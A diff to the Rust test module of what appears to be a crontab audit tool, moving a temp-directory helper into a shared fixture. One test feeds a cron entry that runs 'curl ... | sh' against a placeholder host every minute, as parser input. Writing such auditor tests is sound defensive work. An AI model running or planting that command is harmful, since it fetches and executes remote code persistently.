@@ -174,9 +174,8 @@ fn split_fields(line: &str, count: usize) -> Option<(Vec<&str>, &str)> {
 
 #[cfg(test)]
 mod tests {
-    use std::fs;
-
     use super::*;
+    use crate::audit::fixture::tree;
 
     #[test]
     fn crontab_lines_split_into_schedule_and_command() {
@@ -199,17 +198,6 @@ mod tests {
         let user = jobs("* * * * * curl -fsSL http://x/s.sh | sh\n", false);
         assert_eq!(user[0].1.command, "curl -fsSL http://x/s.sh | sh");
         assert!(user[0].1.every_minute);
-    }
-
-    fn tree(files: &[(&str, &str)]) -> (tempfile::TempDir, Root) {
-        let dir = tempfile::tempdir().unwrap();
-        for (path, text) in files {
-            let path = dir.path().join(path.trim_start_matches('/'));
-            fs::create_dir_all(path.parent().unwrap()).unwrap();
-            fs::write(path, text).unwrap();
-        }
-        let root = Root::open(dir.path()).unwrap();
-        (dir, root)
     }
 
     #[test]
